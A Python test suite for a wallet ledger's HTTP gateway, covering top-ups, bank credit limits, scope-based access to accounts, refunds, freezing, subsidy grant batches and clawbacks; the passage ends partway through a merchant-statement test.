"""The ledger through the gateway (scopes wallets:read, wallets:topup, ledger:admin,
statements:read), against the real identity and the real ledger: top-ups, balances, history,
"did this pay?", refunds, freezing, accounts, subsidy programs and grant batches, clawbacks and
daily statements.

Payments are made through the ledger's gRPC stub directly, as a POS backend in the mesh would; the
gateway has no payment route."""
from __future__ import annotations

import asyncio
import csv
import io
import uuid
from datetime import datetime
from typing import Any
from zoneinfo import ZoneInfo

import grpc

from devstack.servers import free_port
from gateway.auth import LEDGER_ADMIN, STATEMENTS_READ, WALLETS_READ, WALLETS_TOPUP
from gateway.problems import http_mapping
from onecard.identity.v1 import identity_pb2 as ipb
from onecard.ledger.v1 import ledger_pb2 as lpb
from runtime.idempotency import client_scope
from tests.mesh import pki
from tests.gateway.conftest import (
    Gateway,
    TenantAccess,
    assert_problem,
    gateway_settings,
    running_gateway,
)

SHANGHAI = ZoneInfo("Asia/Shanghai")


def _key() -> dict[str, str]:
    return {"Idempotency-Key": str(uuid.uuid4())}


async def _member(gateway: Gateway, tenant_id: str, number: str) -> str:
    answer = await gateway.stub.CreateMember(ipb.CreateMemberRequest(tenant_id=tenant_id, external_number=number,
                                                                     name=f"Wallet Holder {number}"))
    return answer.member.member_id


# What the tests' banks may owe: more than any test tops up (the limit's own tests set less).
BANK_CREDIT_LIMIT_FEN = 10_000_000


async def _allow_credit(gateway: Gateway, admin: TenantAccess, bank: TenantAccess,
                        credit_limit_fen: int = BANK_CREDIT_LIMIT_FEN) -> Any:
    response = await gateway.http.put(
        f"/v1/tenants/{admin.tenant_id}/api-clients/{bank.credentials.client_id}/clearing-account",
        headers=admin.headers, json={"credit_limit_fen": credit_limit_fen})
    assert response.status_code == 200, response.text
    return response.json()


async def _accesses(gateway: Gateway) -> tuple[TenantAccess, TenantAccess, TenantAccess]:
    """A bank (wallets:read wallets:topup) that may owe BANK_CREDIT_LIMIT_FEN, the school's finance
    office (ledger:admin) and a merchant's back office (statements:read), all in one new tenant."""
    bank = await gateway.tenant_access(scopes=(WALLETS_READ, WALLETS_TOPUP))
    admin = await gateway.tenant_access(tenant_id=bank.tenant_id, scopes=(LEDGER_ADMIN, WALLETS_READ))
    merchant = await gateway.tenant_access(tenant_id=bank.tenant_id, scopes=(STATEMENTS_READ,))
    await _allow_credit(gateway, admin, bank)
    return bank, admin, merchant


async def _open(gateway: Gateway, admin: TenantAccess, **body: Any) -> str:
    response = await gateway.http.post(f"/v1/tenants/{admin.tenant_id}/accounts", headers=admin.headers, json=body)
    assert response.status_code in (200, 201), response.text
    return response.json()["account"]["account_id"]


async def _top_up(gateway: Gateway, bank: TenantAccess, member_id: str, amount_fen: int, **extra: Any) -> Any:
    response = await gateway.http.post(f"/v1/tenants/{bank.tenant_id}/members/{member_id}/top-ups",
                                       headers={**bank.headers, **_key()}, json={"amount_fen": amount_fen, **extra})
    assert response.status_code == 201, response.text
    return response.json()


async def _pay(gateway: Gateway, tenant_id: str, *, merchant_id: str, legs: list[tuple[str, int]],
               key: str | None = None, device_id: str = "pos-1", key_scope: str = "",
               external_ref: str = "") -> lpb.PayResponse:
    """A payment booked as policy books one (for the client ``key_scope`` names, if any)."""
    return await gateway.ledger_stub.Pay(lpb.PayRequest(  # type: ignore[attr-defined]
        tenant_id=tenant_id, idempotency_key=key or str(uuid.uuid4()), key_scope=key_scope,
        merchant_account_id=merchant_id,
        legs=[lpb.PayLeg(account_id=a, amount_fen=f) for a, f in legs], device_id=device_id,
        external_ref=external_ref,
    ))


def _balance(purses: list[dict[str, Any]], purse_kind: str, ref: str = "") -> dict[str, Any]:
    (purse,) = [p for p in purses if p["purse_kind"] == purse_kind and p["ref"] == ref]
    return purse


# --- wallets -------------------------------------------------------------------------------------


async def test_a_bank_tops_up_and_the_member_sees_the_balance_and_the_history(ledger_gateway: Gateway) -> None:
    gateway = ledger_gateway
    bank, _admin, _merchant = await _accesses(gateway)
    tenant_id = bank.tenant_id
    member_id = await _member(gateway, tenant_id, "W100")

    before = await gateway.http.get(f"/v1/tenants/{tenant_id}/members/{member_id}/balances", headers=bank.headers)
    assert before.status_code == 200, before.text
    # The ledger opens the cash purse when identity announces the member (asynchronously), so a
    # new member has no purse yet or an empty cash purse.
    assert before.json()["member_id"] == member_id
    assert [(p["purse_kind"], p["posted_fen"]) for p in before.json()["purses"]] in ([], [("cash", 0)])

    first = await _top_up(gateway, bank, member_id, 10_000, external_ref="bank-txn-1")
    transfer = first["transfer"]
    assert transfer["kind"] == "top_up" and transfer["amount_fen"] == 10_000
    assert transfer["external_ref"] == "bank-txn-1"
    assert sorted(p["amount_fen"] for p in transfer["postings"]) == [-10_000, 10_000]
    await _top_up(gateway, bank, member_id, 2_550)

    balances = await gateway.http.get(f"/v1/tenants/{tenant_id}/members/{member_id}/balances", headers=bank.headers)
    assert balances.status_code == 200, balances.text
    cash = _balance(balances.json()["purses"], "cash")
    assert cash["owner_kind"] == "member" and cash["owner_id"] == member_id
    assert cash["status"] == "open" and cash["no_overdraft"] is True and cash["currency"] == "CNY"
    assert (cash["posted_fen"], cash["pending_fen"], cash["available_fen"]) == (12_550, 0, 12_550)
    # The top-up's answer carried the new balance of the purse too.
    assert {b["account_id"]: b["posted_fen"] for b in first["balances"]}[cash["account_id"]] == 10_000

    account = await gateway.http.get(f"/v1/tenants/{tenant_id}/accounts/{cash['account_id']}", headers=bank.headers)
    assert account.status_code == 200 and account.json() == cash

    # History, newest first, two pages of one.
    url = f"/v1/tenants/{tenant_id}/accounts/{cash['account_id']}/transfers"
    page_1 = await gateway.http.get(url, headers=bank.headers, params={"page_size": 1})
    assert page_1.status_code == 200, page_1.text
    assert [t["amount_fen"] for t in page_1.json()["transfers"]] == [2_550]
    token = page_1.json()["next_page_token"]
    assert token
    page_2 = await gateway.http.get(url, headers=bank.headers, params={"page_size": 1, "page_token": token})
    assert [t["transfer_id"] for t in page_2.json()["transfers"]] == [transfer["transfer_id"]]
    page_3_token = page_2.json()["next_page_token"]
    if page_3_token:
        page_3 = await gateway.http.get(url, headers=bank.headers, params={"page_size": 1, "page_token": page_3_token})
        assert page_3.json() == {"transfers": [], "next_page_token": None}
    everything = await gateway.http.get(url, headers=bank.headers)
    assert [t["amount_fen"] for t in everything.json()["transfers"]] == [2_550, 10_000]
    assert everything.json()["next_page_token"] is None


async def test_a_top_up_repeated_with_its_key_answers_the_same_and_moves_money_once(ledger_gateway: Gateway) -> None:
    gateway = ledger_gateway
    bank, _admin, _merchant = await _accesses(gateway)
    member_id = await _member(gateway, bank.tenant_id, "W200")
    url = f"/v1/tenants/{bank.tenant_id}/members/{member_id}/top-ups"
    headers = {**bank.headers, **_key()}

    first = await gateway.http.post(url, headers=headers, json={"amount_fen": 3_000})
    again = await gateway.http.post(url, headers=headers, json={"amount_fen": 3_000})
    assert first.status_code == again.status_code == 201, again.text
    assert again.json()["transfer"] == first.json()["transfer"]

    balances = await gateway.http.get(f"/v1/tenants/{bank.tenant_id}/members/{member_id}/balances",
                                      headers=bank.headers)
    assert _balance(balances.json()["purses"], "cash")["posted_fen"] == 3_000

    # The same key for another request changes nothing and says so.
    other = await gateway.http.post(url, headers=headers, json={"amount_fen": 3_001})
    assert_problem(other, 409, reason="IDEMPOTENCY_KEY_REUSED")
    # A write without a key is refused before the ledger is asked.
    missing = await gateway.http.post(url, headers=bank.headers, json={"amount_fen": 100})
    assert_problem(missing, 400, reason="IDEMPOTENCY_KEY_REQUIRED")
    balances = await gateway.http.get(f"/v1/tenants/{bank.tenant_id}/members/{member_id}/balances",
                                      headers=bank.headers)
    assert _balance(balances.json()["purses"], "cash")["posted_fen"] == 3_000


async def test_each_bank_client_tops_up_from_its_own_clearing_account(ledger_gateway: Gateway) -> None:
    gateway = ledger_gateway
    bank_a, admin, _merchant = await _accesses(gateway)
    bank_b = await gateway.tenant_access(tenant_id=bank_a.tenant_id, scopes=(WALLETS_TOPUP,))
    await _allow_credit(gateway, admin, bank_b)
    member_id = await _member(gateway, bank_a.tenant_id, "W300")

    from_a = await _top_up(gateway, bank_a, member_id, 1_000)
    from_b = await _top_up(gateway, bank_b, member_id, 2_000)
    again_a = await _top_up(gateway, bank_a, member_id, 500)

    def source(write: dict[str, Any]) -> str:
        (debit,) = [p["account_id"] for p in write["transfer"]["postings"] if p["amount_fen"] < 0]
        return debit

    assert source(from_a) == source(again_a) != source(from_b)
    clearing = await gateway.http.get(f"/v1/tenants/{admin.tenant_id}/accounts/{source(from_a)}",
                                      headers=admin.headers)
    assert clearing.status_code == 200, clearing.text
    body = clearing.json()
    assert body["purse_kind"] == "bank_clearing" and body["owner_kind"] == "tenant"
    assert body["owner_id"] == bank_a.tenant_id and body["ref"] == bank_a.credentials.client_id
    assert body["posted_fen"] == -1_500 and body["credit_limit_fen"] == BANK_CREDIT_LIMIT_FEN


async def test_a_bank_tops_up_only_within_the_credit_limit_the_tenant_set(ledger_gateway: Gateway) -> None:
    """The attack: a bank's clearing account went negative without limit, so its top-ups could
    create any amount of money. Now a new partner may top up nothing until the tenant sets how
    much (its prefunding); past that the top-up is refused with a reason and nothing moves."""
    gateway = ledger_gateway
    bank = await gateway.tenant_access(scopes=(WALLETS_READ, WALLETS_TOPUP))
    admin = await gateway.tenant_access(tenant_id=bank.tenant_id, scopes=(LEDGER_ADMIN,))
    tenant_id = bank.tenant_id
    member_id = await _member(gateway, tenant_id, "W350")
    url = f"/v1/tenants/{tenant_id}/members/{member_id}/top-ups"

    minted = await gateway.http.post(url, headers={**bank.headers, **_key()}, json={"amount_fen": 100_000_000})
    body = assert_problem(minted, 409, reason="CREDIT_LIMIT_EXCEEDED")
    assert "credit limit" in body["detail"]
    own = await gateway.http.get(f"/v1/tenants/{tenant_id}/clearing-account", headers=bank.headers)
    assert own.status_code == 200, own.text
    assert (own.json()["credit_limit_fen"], own.json()["posted_fen"]) == (0, 0)

    # The finance office records that the bank prefunded 500.00 CNY.
    limited = await _allow_credit(gateway, admin, bank, 50_000)
    assert limited["ref"] == bank.credentials.client_id and limited["credit_limit_fen"] == 50_000
    await _top_up(gateway, bank, member_id, 30_000)
    over = await gateway.http.post(url, headers={**bank.headers, **_key()}, json={"amount_fen": 20_001})
    assert_problem(over, 409, reason="CREDIT_LIMIT_EXCEEDED")
    await _top_up(gateway, bank, member_id, 20_000)
    own = (await gateway.http.get(f"/v1/tenants/{tenant_id}/clearing-account", headers=bank.headers)).json()
    assert (own["posted_fen"], own["available_fen"], own["credit_limit_fen"]) == (-50_000, -50_000, 50_000)
    balances = await gateway.http.get(f"/v1/tenants/{tenant_id}/members/{member_id}/balances", headers=bank.headers)
    assert _balance(balances.json()["purses"], "cash")["posted_fen"] == 50_000

    # Not below what it owes; a client the tenant has not granted is not found; the bank itself
    # cannot raise its own limit.
    below = await gateway.http.put(
        f"/v1/tenants/{tenant_id}/api-clients/{bank.credentials.client_id}/clearing-account",
        headers=admin.headers, json={"credit_limit_fen": 49_999})
    assert_problem(below, 409, reason="CREDIT_LIMIT_BELOW_USE")
    stranger = await gateway.http.put(f"/v1/tenants/{tenant_id}/api-clients/oc_nobody/clearing-account",
                                      headers=admin.headers, json={"credit_limit_fen": 1})
    assert_problem(stranger, 404, reason="CLIENT_NOT_FOUND")
    own_raise = await gateway.http.put(
        f"/v1/tenants/{tenant_id}/api-clients/{bank.credentials.client_id}/clearing-account",
        headers=bank.headers, json={"credit_limit_fen": 10**12})
    assert_problem(own_raise, 403, reason="INSUFFICIENT_SCOPE")


async def test_wallets_read_reaches_member_purses_and_the_callers_own_clearing_account_only(
        ledger_gateway: Gateway) -> None:
    """The attack: with only wallets:read a bank read the full history of a canteen's settlement
    account (every member's payments there) and other partners' clearing accounts. Now a merchant's
    account needs statements:read (or ledger:admin), the tenant's own accounts ledger:admin, and
    another partner's clearing account is not found; members' purses and its own clearing account
    it still reads."""
    gateway = ledger_gateway
    bank, admin, _merchant = await _accesses(gateway)
    tenant_id = bank.tenant_id
    other_bank = await gateway.tenant_access(tenant_id=tenant_id, scopes=(WALLETS_READ, WALLETS_TOPUP))
    await _allow_credit(gateway, admin, other_bank)
    back_office = await gateway.tenant_access(tenant_id=tenant_id, scopes=(WALLETS_READ, STATEMENTS_READ))
    member_id = await _member(gateway, tenant_id, "W320")
    write = await _top_up(gateway, bank, member_id, 5_000)
    (cash_id,) = [p["account_id"] for p in write["transfer"]["postings"] if p["amount_fen"] > 0]
    (own_clearing,) = [p["account_id"] for p in write["transfer"]["postings"] if p["amount_fen"] < 0]
    theirs = await _top_up(gateway, other_bank, member_id, 1_000)
    (their_clearing,) = [p["account_id"] for p in theirs["transfer"]["postings"] if p["amount_fen"] < 0]
    canteen = await _open(gateway, admin, owner_kind="merchant", owner_id="canteen-2", purse_kind="merchant_settlement")
    funding = await _open(gateway, admin, owner_kind="tenant", owner_id="finance", purse_kind="subsidy_funding",
                          ref="meal-2027")
    lunch_key = f"pos-2:{uuid.uuid4()}"
    bank_scope = client_scope(bank.credentials.client_id)
    await _pay(gateway, tenant_id, merchant_id=canteen, legs=[(cash_id, 1_200)], key=lunch_key, key_scope=bank_scope)
    # A free breakfast paid by the tenant alone touches no member's purse (under the bank's key).
    breakfast_key = f"benefit:{uuid.uuid4()}"
    await gateway.ledger_stub.Pay(lpb.PayRequest(  # type: ignore[attr-defined]
        tenant_id=tenant_id, idempotency_key=breakfast_key, key_scope=bank_scope, merchant_account_id=canteen,
        sponsor=lpb.PayLeg(account_id=funding, amount_fen=300)))

    def account(access: TenantAccess, account_id: str, suffix: str = "") -> Any:
        return gateway.http.get(f"/v1/tenants/{tenant_id}/accounts/{account_id}{suffix}", headers=access.headers)

    for suffix in ("", "/transfers"):
        # The member's purse and its own clearing account: yes.
        assert (await account(bank, cash_id, suffix)).status_code == 200
        assert (await account(bank, own_clearing, suffix)).status_code == 200
        # The canteen: statements:read (or ledger:admin) needed.
        body = assert_problem(await account(bank, canteen, suffix), 403, reason="INSUFFICIENT_SCOPE")
        assert body["scope"] == STATEMENTS_READ
        # The tenant's funding account: ledger:admin needed.
        body = assert_problem(await account(bank, funding, suffix), 403, reason="INSUFFICIENT_SCOPE")
        assert body["scope"] == LEDGER_ADMIN
        # Another partner's clearing account: as if it did not exist.
        assert_problem(await account(bank, their_clearing, suffix), 404, reason="ACCOUNT_NOT_FOUND")
        assert_problem(await account(back_office, their_clearing, suffix), 404, reason="ACCOUNT_NOT_FOUND")
        # The back office reads the canteen; the finance office reads everything.
        assert (await account(back_office, canteen, suffix)).status_code == 200
        for account_id in (cash_id, own_clearing, their_clearing, canteen, funding):
            assert (await account(admin, account_id, suffix)).status_code == 200

    # "Did this pay?" answers a transfer that touches what the caller may read, and none other.
    lookup = f"/v1/tenants/{tenant_id}/payments/lookup"
    found = await gateway.http.get(lookup, headers=bank.headers, params={"idempotency_key": lunch_key})
    assert found.status_code == 200 and found.json()["found"] is True
    hidden = await gateway.http.get(lookup, headers=bank.headers, params={"idempotency_key": breakfast_key})
    assert_problem(hidden, 404, reason="TRANSFER_NOT_FOUND")
    # And a key is its client's own: the finance office does not even find the bank's.
    elsewhere = await gateway.http.get(lookup, headers=admin.headers, params={"idempotency_key": breakfast_key})
    assert elsewhere.status_code == 200 and elsewhere.json() == {"found": False, "transfer": None}


async def test_a_member_identity_does_not_know_is_not_found(ledger_gateway: Gateway) -> None:
    gateway = ledger_gateway
    bank, _admin, _merchant = await _accesses(gateway)
    stranger = str(uuid.uuid4())
    balances = await gateway.http.get(f"/v1/tenants/{bank.tenant_id}/members/{stranger}/balances",
                                      headers=bank.headers)
    assert_problem(balances, 404, reason="MEMBER_NOT_FOUND")
    top_up = await gateway.http.post(f"/v1/tenants/{bank.tenant_id}/members/{stranger}/top-ups",
                                     headers={**bank.headers, **_key()}, json={"amount_fen": 100})
    assert_problem(top_up, 404, reason="MEMBER_NOT_FOUND")
    # Nothing was opened for the stranger.
    answer = await gateway.ledger_stub.GetBalances(lpb.GetBalancesRequest(  # type: ignore[attr-defined]
        tenant_id=bank.tenant_id, owner_kind=lpb.OWNER_KIND_MEMBER, owner_id=stranger))
    assert list(answer.accounts) == []
    unknown_account = await gateway.http.get(f"/v1/tenants/{bank.tenant_id}/accounts/{uuid.uuid4()}/transfers",
                                             headers=bank.headers)
    assert_problem(unknown_account, 404, reason="ACCOUNT_NOT_FOUND")


async def test_did_this_pay_answers_found_with_the_transfer_or_not_found(ledger_gateway: Gateway) -> None:
    gateway = ledger_gateway
    bank, admin, _merchant = await _accesses(gateway)
    tenant_id = bank.tenant_id
    member_id = await _member(gateway, tenant_id, "W400")
    cash_id = (await _top_up(gateway, bank, member_id, 5_000))["transfer"]["postings"]
    (cash_id,) = [p["account_id"] for p in cash_id if p["amount_fen"] > 0]
    merchant_id = await _open(gateway, admin, owner_kind="merchant", owner_id="canteen-1",
                              purse_kind="merchant_settlement")
    key = f"pos-1:{uuid.uuid4()}"
    paid = await _pay(gateway, tenant_id, merchant_id=merchant_id, legs=[(cash_id, 1_200)], key=key,
                      key_scope=client_scope(bank.credentials.client_id))

    url = f"/v1/tenants/{tenant_id}/payments/lookup"
    found = await gateway.http.get(url, headers=bank.headers, params={"idempotency_key": key})
    assert found.status_code == 200, found.text
    body = found.json()
    assert body["found"] is True
    assert body["transfer"]["transfer_id"] == paid.transfer.transfer_id
    assert body["transfer"]["kind"] == "payment" and body["transfer"]["amount_fen"] == 1_200
    assert body["transfer"]["merchant_account_id"] == merchant_id and body["transfer"]["device_id"] == "pos-1"
    assert body["transfer"]["idempotency_key"] == key

    not_found = await gateway.http.get(url, headers=bank.headers, params={"idempotency_key": f"pos-1:{uuid.uuid4()}"})
    assert not_found.status_code == 200 and not_found.json() == {"found": False, "transfer": None}
    # Another tenant's key is not found here either.
    other = await gateway.tenant_access(scopes=(WALLETS_READ,))
    elsewhere = await gateway.http.get(f"/v1/tenants/{other.tenant_id}/payments/lookup", headers=other.headers,
                                       params={"idempotency_key": key})
    assert elsewhere.json() == {"found": False, "transfer": None}
    # Nor another client's in the same tenant: keys are their caller's own.
    neighbour = await gateway.tenant_access(tenant_id=tenant_id, scopes=(WALLETS_READ,))
    theirs = await gateway.http.get(url, headers=neighbour.headers, params={"idempotency_key": key})
    assert theirs.json() == {"found": False, "transfer": None}
    assert_problem(await gateway.http.get(url, headers=bank.headers), 422, reason="VALIDATION_FAILED")


# --- ledger:admin --------------------------------------------------------------------------------


async def test_refunds_never_exceed_the_payment(ledger_gateway: Gateway) -> None:
    gateway = ledger_gateway
    bank, admin, _merchant = await _accesses(gateway)
    tenant_id = bank.tenant_id
    member_id = await _member(gateway, tenant_id, "W500")
    write = await _top_up(gateway, bank, member_id, 5_000)
    (cash_id,) = [p["account_id"] for p in write["transfer"]["postings"] if p["amount_fen"] > 0]
    merchant_id = await _open(gateway, admin, owner_kind="merchant", owner_id="canteen-2",
                              purse_kind="merchant_settlement")
    payment = (await _pay(gateway, tenant_id, merchant_id=merchant_id, legs=[(cash_id, 1_000)])).transfer
    url = f"/v1/tenants/{tenant_id}/payments/{payment.transfer_id}/refunds"

    too_much = await gateway.http.post(url, headers={**admin.headers, **_key()}, json={"amount_fen": 1_001})
    assert_problem(too_much, 409, reason="REFUND_EXCEEDS_PAYMENT")
    missing_key = await gateway.http.post(url, headers=admin.headers, json={"amount_fen": 1})
    assert_problem(missing_key, 400, reason="IDEMPOTENCY_KEY_REQUIRED")

    part = await gateway.http.post(url, headers={**admin.headers, **_key()},
                                   json={"amount_fen": 400, "external_ref": "complaint-42"})
    assert part.status_code == 201, part.text
    refund = part.json()["transfer"]
    assert refund["kind"] == "refund" and refund["amount_fen"] == 400
    assert refund["original_transfer_id"] == payment.transfer_id and refund["external_ref"] == "complaint-42"
    assert {b["account_id"]: b["posted_fen"] for b in part.json()["balances"]}[cash_id] == 4_400

    over_the_rest = await gateway.http.post(url, headers={**admin.headers, **_key()}, json={"amount_fen": 601})
    assert_problem(over_the_rest, 409, reason="REFUND_EXCEEDS_PAYMENT")
    # No amount: the rest.
    rest = await gateway.http.post(url, headers={**admin.headers, **_key()})
    assert rest.status_code == 201, rest.text
    assert rest.json()["transfer"]["amount_fen"] == 600
    done = await gateway.http.post(url, headers={**admin.headers, **_key()}, json={})
    assert_problem(done, 409, reason="ALREADY_REFUNDED")
    unknown = await gateway.http.post(f"/v1/tenants/{tenant_id}/payments/{uuid.uuid4()}/refunds",
                                      headers={**admin.headers, **_key()}, json={})
    assert_problem(unknown, 404)

    balances = await gateway.http.get(f"/v1/tenants/{tenant_id}/members/{member_id}/balances", headers=bank.headers)
    assert _balance(balances.json()["purses"], "cash")["posted_fen"] == 5_000
    trial = await gateway.http.get(f"/v1/tenants/{tenant_id}/trial-balance", headers=admin.headers)
    assert trial.status_code == 200, trial.text
    assert trial.json()["balanced"] is True and trial.json()["postings_sum_fen"] == 0
    totals = {t["purse_kind"]: t for t in trial.json()["totals"]}
    assert totals["cash"]["posted_fen"] == 5_000 and totals["merchant_settlement"]["posted_fen"] == 0


async def test_a_frozen_purse_takes_no_top_up_until_unfrozen(ledger_gateway: Gateway) -> None:
    gateway = ledger_gateway
    bank, admin, _merchant = await _accesses(gateway)
    member_id = await _member(gateway, bank.tenant_id, "W600")
    write = await _top_up(gateway, bank, member_id, 1_000)
    (cash_id,) = [p["account_id"] for p in write["transfer"]["postings"] if p["amount_fen"] > 0]

    frozen = await gateway.http.post(f"/v1/tenants/{bank.tenant_id}/accounts/{cash_id}/freeze", headers=admin.headers)
    assert frozen.status_code == 200, frozen.text
    assert frozen.json()["status"] == "frozen" and frozen.json()["posted_fen"] == 1_000
    refused = await gateway.http.post(f"/v1/tenants/{bank.tenant_id}/members/{member_id}/top-ups",
                                      headers={**bank.headers, **_key()}, json={"amount_fen": 100})
    assert_problem(refused, 409, reason="ACCOUNT_FROZEN")

    thawed = await gateway.http.post(f"/v1/tenants/{bank.tenant_id}/accounts/{cash_id}/unfreeze",
                                     headers=admin.headers)
    assert thawed.status_code == 200 and thawed.json()["status"] == "open"
    await _top_up(gateway, bank, member_id, 100)
    # Bank tokens cannot freeze; admin tokens cannot top up.
    assert_problem(await gateway.http.post(f"/v1/tenants/{bank.tenant_id}/accounts/{cash_id}/freeze",
                                           headers=bank.headers), 403, reason="INSUFFICIENT_SCOPE")
    assert_problem(await gateway.http.post(f"/v1/tenants/{bank.tenant_id}/members/{member_id}/top-ups",
                                           headers={**admin.headers, **_key()}, json={"amount_fen": 1}),
                   403, reason="INSUFFICIENT_SCOPE")


async def test_opening_an_account_is_idempotent(ledger_gateway: Gateway) -> None:
    gateway = ledger_gateway
    _bank, admin, _merchant = await _accesses(gateway)
    url = f"/v1/tenants/{admin.tenant_id}/accounts"
    body = {"owner_kind": "tenant", "owner_id": "finance", "purse_kind": "subsidy_funding", "ref": "meal-2026"}
    first = await gateway.http.post(url, headers=admin.headers, json=body)
    assert first.status_code == 201, first.text
    assert first.json()["created"] is True
    account = first.json()["account"]
    assert first.headers["location"] == f"{url}/{account['account_id']}"
    assert (account["owner_kind"], account["purse_kind"], account["ref"]) == ("tenant", "subsidy_funding", "meal-2026")
    again = await gateway.http.post(url, headers=admin.headers, json=body)
    assert again.status_code == 200 and again.json() == {"account": account, "created": False}
    wrong = await gateway.http.post(url, headers=admin.headers, json={**body, "purse_kind": "wallet"})
    assert_problem(wrong, 422, reason="VALIDATION_FAILED")
    refused = await gateway.http.post(url, headers=admin.headers,
                                      json={"owner_kind": "merchant", "owner_id": "m", "purse_kind": "cash"})
    assert_problem(refused, 400, reason="PURSE_KIND_NOT_ALLOWED")


# --- subsidy programs, grant batches, clawbacks (DefineProgram … Clawback) ---------------------


async def _wait_done(gateway: Gateway, admin: TenantAccess, batch_id: str) -> dict[str, Any]:
    url = f"/v1/tenants/{admin.tenant_id}/subsidy-batches/{batch_id}"
    deadline = asyncio.get_running_loop().time() + 30
    while True:
        response = await gateway.http.get(url, headers=admin.headers)
        assert response.status_code == 200, response.text
        if response.json()["status"] == "done":
            return response.json()
        assert asyncio.get_running_loop().time() < deadline, response.json()
        await asyncio.sleep(0.05)


async def test_a_program_grants_by_batch_and_claws_back(ledger_gateway: Gateway) -> None:
    gateway = ledger_gateway
    bank, admin, _merchant = await _accesses(gateway)
    tenant_id = admin.tenant_id
    members = [await _member(gateway, tenant_id, f"S{n}") for n in range(4)]
    funding_id = await _open(gateway, admin, owner_kind="tenant", owner_id="finance", purse_kind="subsidy_funding",
                             ref="meal-2026")

    programs = f"/v1/tenants/{tenant_id}/subsidy-programs"
    defined = await gateway.http.post(programs, headers=admin.headers, json={
        "purse_kind": "subsidy", "ref": "meal-2026", "funding_account_id": funding_id})
    assert defined.status_code == 201, defined.text
    assert defined.json()["created"] is True
    program = defined.json()["program"]
    assert program == {"purse_kind": "subsidy", "ref": "meal-2026", "funding_account_id": funding_id,
                       "ends_at": None, "status": "active", "expired_purses": 0, "expired_fen": 0}
    assert defined.headers["location"] == f"{programs}/subsidy/meal-2026"
    fetched = await gateway.http.get(f"{programs}/subsidy/meal-2026", headers=admin.headers)
    assert fetched.status_code == 200 and fetched.json() == program
    assert_problem(await gateway.http.get(f"{programs}/voucher/meal-2026", headers=admin.headers), 404)

    # A JSON batch: two members granted; one whose purse is frozen fails alone.
    frozen_purse = await _open(gateway, admin, owner_kind="member", owner_id=members[2], purse_kind="subsidy",
                               ref="meal-2026")
    frozen = await gateway.http.post(f"/v1/tenants/{tenant_id}/accounts/{frozen_purse}/freeze", headers=admin.headers)
    assert frozen.status_code == 200, frozen.text
    batches = f"/v1/tenants/{tenant_id}/subsidy-batches"
    rows = [{"member_id": members[0], "amount_fen": 20_000}, {"member_id": members[1], "amount_fen": 15_000},
            {"member_id": members[2], "amount_fen": 100}]
    body = {"bill_number": "SUB-2026-11", "purse_kind": "subsidy", "ref": "meal-2026", "rows": rows}
    started = await gateway.http.post(batches, headers=admin.headers, json=body)
    assert started.status_code == 202, started.text
    batch = started.json()["batch"]
    assert started.json()["created"] is True
    assert started.headers["location"] == f"{batches}/{batch['batch_id']}"
    assert (batch["bill_number"], batch["total_rows"]) == ("SUB-2026-11", 3)
    again = await gateway.http.post(batches, headers=admin.headers, json=body)
    assert again.status_code == 202 and again.json()["created"] is False
    assert again.json()["batch"]["batch_id"] == batch["batch_id"]
    reused = await gateway.http.post(batches, headers=admin.headers, json={**body, "rows": rows[:1]})
    assert_problem(reused, 409, reason="BILL_NUMBER_REUSED")

    done = await _wait_done(gateway, admin, batch["batch_id"])
    assert (done["done_rows"], done["granted_rows"], done["failed_rows"], done["granted_fen"]) == (3, 2, 1, 35_000)
    assert done["finished_at"] is not None
    all_rows = await gateway.http.get(f"{batches}/{batch['batch_id']}/rows", headers=admin.headers)
    assert all_rows.status_code == 200, all_rows.text
    assert [r["line"] for r in all_rows.json()["rows"]] == [1, 2, 3]
    failed = await gateway.http.get(f"{batches}/{batch['batch_id']}/rows", headers=admin.headers,
                                    params={"status": "failed"})
    (failed_row,) = failed.json()["rows"]
    assert (failed_row["line"], failed_row["status"], failed_row["reason"]) == (3, "failed", "ACCOUNT_FROZEN")
    granted = await gateway.http.get(f"{batches}/{batch['batch_id']}/rows", headers=admin.headers,
                                     params={"status": "granted", "page_size": 1})
    first_row = granted.json()["rows"][0]
    assert first_row["status"] == "granted" and first_row["transfer_id"] and first_row["account_id"]
    assert granted.json()["next_page_token"]

    purses = (await gateway.http.get(f"/v1/tenants/{tenant_id}/members/{members[0]}/balances",
                                     headers=bank.headers)).json()["purses"]
    subsidy = _balance(purses, "subsidy", "meal-2026")
    assert subsidy["posted_fen"] == 20_000

    # The same grant as CSV, for the fourth member.
    csv_started = await gateway.http.post(
        batches, headers={**admin.headers, "Content-Type": "text/csv"},
        params={"bill_number": "SUB-2026-11-B", "purse_kind": "subsidy", "ref": "meal-2026"},
        content=f"member_id,amount_fen\n{members[3]},5000\n".encode())
    assert csv_started.status_code == 202, csv_started.text
    csv_done = await _wait_done(gateway, admin, csv_started.json()["batch"]["batch_id"])
    assert (csv_done["granted_rows"], csv_done["granted_fen"]) == (1, 5_000)
    bad_csv = await gateway.http.post(
        batches, headers={**admin.headers, "Content-Type": "text/csv"},
        params={"bill_number": "SUB-X", "purse_kind": "subsidy", "ref": "meal-2026"},
        content=f"member_id,amount_fen\n{members[3]},lots\n".encode())
    assert assert_problem(bad_csv, 422, reason="GRANT_FILE_INVALID")["line"] == 2

    # Part of a grant back, then the rest.
    clawbacks = f"/v1/tenants/{tenant_id}/accounts/{subsidy['account_id']}/clawbacks"
    part = await gateway.http.post(clawbacks, headers={**admin.headers, **_key()},
                                   json={"amount_fen": 5_000, "external_ref": "granted in error"})
    assert part.status_code == 201, part.text
    assert part.json()["transfer"]["kind"] == "clawback" and part.json()["transfer"]["amount_fen"] == 5_000
    assert {b["account_id"]: b["posted_fen"] for b in part.json()["balances"]}[funding_id] == -40_000 + 5_000
    rest = await gateway.http.post(clawbacks, headers={**admin.headers, **_key()})
    assert rest.status_code == 201 and rest.json()["transfer"]["amount_fen"] == 15_000
    assert_problem(await gateway.http.post(clawbacks, headers=admin.headers), 400, reason="IDEMPOTENCY_KEY_REQUIRED")
    trial = await gateway.http.get(f"/v1/tenants/{tenant_id}/trial-balance", headers=admin.headers)
    assert trial.json()["balanced"] is True


# --- statements ----------------------------------------------------------------------------------


async def test_a_merchant_downloads_the_day_as_csv_with_its_totals(ledger_gateway: Gateway) -> None:
    gateway = ledger_gateway
    bank, admin, merchant = await _accesses(gateway)
    tenant_id = bank.tenant_id
    member_id = await _member(gateway, tenant_id, "W700")
    write = await _top_up(gateway, bank, member_id, 10_000)
    (cash_id,) = [p["account_id"] for p in write["transfer"]["postings"] if p["amount_fen"] > 0]
    canteen = await _open(gateway, admin, owner_kind="merchant", owner_id="canteen-3", purse_kind="merchant_settlement")
